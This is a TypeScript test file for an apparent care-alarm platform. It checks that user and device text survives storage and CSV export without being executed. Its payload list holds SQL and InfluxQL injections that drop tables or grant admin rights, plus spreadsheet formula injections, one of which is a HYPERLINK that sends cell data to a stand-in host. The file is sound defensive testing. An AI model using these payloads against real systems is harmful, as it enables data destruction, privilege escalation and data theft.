/** Whatever anybody types or a device sends is kept and given back letter for letter, and no spreadsheet runs it: on a platform that also writes to InfluxDB. */
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { influxql, openInfluxd, type RealServer, settingsOf } from '../../bench/lib/influxd.ts'
import { systemClock } from '../../domain/clock.ts'
import { days, instant } from '../../domain/time.ts'
import { lacks, timings } from '../../store/influx/lane.contract.ts'
import { followSites } from '../../store/influx/sites.ts'
import { type InfluxTelemetry, openInflux } from '../../store/influx.ts'
import { openTelemetry } from '../../store/sqlite/telemetry.ts'
import type { DirectoryRows } from '../../store/store.ts'
import type { AlarmCard, HistoryAnswer, QuarantineList } from '../contracts.ts'
import { openWorld, type Signed, siteRows, type World } from './world.contract.ts'

const payloads = {
  'line protocol': 'a,b=c\\ d="e" value=1 1\nreading,device=1 value=9',
  InfluxQL: `x' OR 1=1; DROP MEASUREMENT "reading"; --`,
  SQL: `'); drop table resident; update user set role='admin'; --`,
  'a formula': '=HYPERLINK("http://x/?"&A1,"安铃")',
  'a formula by plus': '+1+cmd|’/c calc’!A0',
  'a formula by at': '@SUM(1;2)',
  'a formula by minus, with a tab': '-2\t3 %41; $x {y}',
  'a quoted cell': '"a";"b",,\n"c"',
} as const
const named = Object.entries(payloads)

/** Fields that are no text of people: ids and choices. */
const notText = new Set([
  'id',
  'siteId',
  'homeId',
  'residentId',
  'gatewayId',
  'sex',
  'mode',
  'relation',
  'family',
  'role',
  'power',
  'timeZone',
  'key',
])
function filled<T extends object>(row: T, text: string): T {
  const entries = Object.entries(row).map(([name, value]) => {
    if (Array.isArray(value)) return [name, [text, text]]
    return [name, typeof value === 'string' && !notText.has(name) ? text.slice(0, 40) : value]
  })
  return Object.fromEntries(entries) as T
}
const tables = ['sites', 'homes', 'residents', 'contacts', 'devices'] as const

describe('with a real influxd', { skip: lacks('influxd') }, () => {
  let server: RealServer
  let influx: InfluxTelemetry
  let world: World
  let admin: Signed
  const folder = mkdtempSync(join(tmpdir(), 'anling-hostile-'))
  const rows = siteRows('a', 1)

  beforeAll(async () => {
    server = await openInfluxd()
    await server.start()
    await influxql(server.url, 'CREATE DATABASE "town"')
    const fail = (trouble: Error) => {
      throw trouble
    }
    const common = { clock: systemClock, log: () => {} }
    const readings = await openTelemetry({
      ...common,
      dataDir: folder,
      windowMs: 2,
      reserveBytes: 0,
      spool: { local: days(14) },
      onFatal: fail,
    })
    influx = await openInflux({ ...common, readings, settings: settingsOf(server.url, 'town'), local: days(14), timings })
    world = await openWorld({ telemetry: influx.telemetry, history: influx.history, influx, quarantine: readings.quarantine, rows: [rows] })
    await world.addUsers()
    admin = await world.signIn('root')
    world.quarantine = readings.quarantine
  })
  afterAll(async () => {
    await world.close()
    await influx.close()
    await server.end()
    rmSync(folder, { recursive: true, force: true })
  })

  const get = async <T>(url: string) => (await world.ask({ method: 'GET', url, headers: admin.headers })).json<T>()

  test.each(named)('every text of the directory: %s', async (_, text) => {
    const hostile = Object.fromEntries(
      tables.map((table) => [table, rows[table].map((row) => filled(row, text))]),
    ) as unknown as DirectoryRows
    for (const table of tables)
      for (const { id, ...row } of hostile[table] as readonly { id: string }[]) {
        const answer = await world.ask({ method: 'PUT', url: `/api/rows/${table}/${id}`, headers: admin.headers, payload: { id, ...row } })
        expect([answer.statusCode, answer.body.slice(0, 200)]).toEqual([200, expect.anything()])
      }
    const back = await get<DirectoryRows>('/api/rows')
    // The code of a door stands in no list; it is asked of the directory itself.
    const listed = { ...hostile, homes: hostile.homes.map((home) => ({ ...home, doorCode: '' })) }
    for (const table of tables) expect(back[table]).toMatchObject(listed[table])
    const stored = await world.stores.directory.rows('all')
    expect(stored.homes).toMatchObject(hostile.homes)
    for (const table of tables) {
      const csv = (await world.ask({ method: 'GET', url: `/api/export/${table}`, headers: admin.headers })).body
      const cells = (parse(csv, { bom: true }) as string[][]).flat()
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
      const headers = { ...admin.headers, 'content-type': 'text/csv' }
      const again = await world.ask({ method: 'POST', url: `/api/import/${table}`, headers, payload: csv })
      expect(again.json()).toEqual({ imported: 1 })
    }
    expect(await get<DirectoryRows>('/api/rows')).toEqual(back)
  })

  test.each(named)('what a device sends and a carer writes: %s', async (name, text) => {
    const entry = {
      at: systemClock.now(),
      senderId: text,
      topic: text,
      reason: 'undecodable' as const,
      why: text,
      payload: Buffer.from(text),
    }
    await world.quarantine.put(entry)
    expect((await get<QuarantineList>('/api/quarantine')).entries[0]).toMatchObject({
      senderId: text,
      topic: text,
      why: text,
      payloadText: text,
    })
    const pressId = `press ${text}`
    await world.press('res-a-1', pressId)
    const [alarm] = await world.store.openAlarms(['a'])
    const path = `/api/alarms/${encodeURIComponent(alarm?.id ?? '')}`
    const post = (what: string, payload: object) => world.ask({ method: 'POST', url: `${path}/${what}`, headers: admin.headers, payload })
    await post('acknowledge', {})
    expect((await post('notes', { action: 'called', text })).statusCode).toBe(200)
    const card = await get<AlarmCard>(path)
    expect([name, JSON.stringify(card)]).toEqual([name, expect.stringContaining(JSON.stringify(text))])
    expect((await post('resolve', { outcome: 'help-given', text })).statusCode).toBe(200)
  })

  test('a history of rooms with such names, from InfluxDB, as a spreadsheet too; and nothing was deleted by any of it', async () => {
    const hourMs = 3_600_000
    const start = Math.floor((systemClock.now() - days(30)) / hourMs) * hourMs
    for (const [n, [, room]] of named.entries()) {
      const device = { ...rows.devices[0], id: `sens-${n}`, key: `sens-${n}`, role: 'motion', room: room.slice(0, 40) }
      const { id, ...row } = device
      expect(
        (await world.ask({ method: 'PUT', url: `/api/rows/devices/${id}`, headers: admin.headers, payload: { id, ...row } })).statusCode,
      ).toBe(200)
      const { number = 0, residentNumber } = (await world.directory.device(id)) ?? {}
      await influx.telemetry.record([{ device: number, resident: residentNumber ?? 0, kind: 'motion', at: instant(start + n), value: 1 }])
    }
    await influx.drained()
    const url = `/api/residents/res-a-1/history?from=${start}&to=${start + hourMs}&series=activity&points=3`
    const rooms = named.map(([, room]) => room.slice(0, 40))
    expect((await get<HistoryAnswer>(url)).series.map(({ room, values }) => [room, values[0]]).sort()).toEqual(
      rooms.map((room) => [room, 1]).sort(),
    )
    const csv = (await world.ask({ method: 'GET', url: `${url}&format=csv`, headers: admin.headers })).body
    const [header = []] = parse(csv, { bom: true }) as string[][]
    expect(header.slice(2).sort()).toEqual(rooms.map((room) => `activity ${room}`).sort())
    expect(header.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect((await influxql(server.url, 'SELECT count("value") FROM "reading"', 'town'))[0]?.[1]).toBe(named.length)
    expect((await followSites(world.directory)())?.names).toEqual(['a'])
  })
})
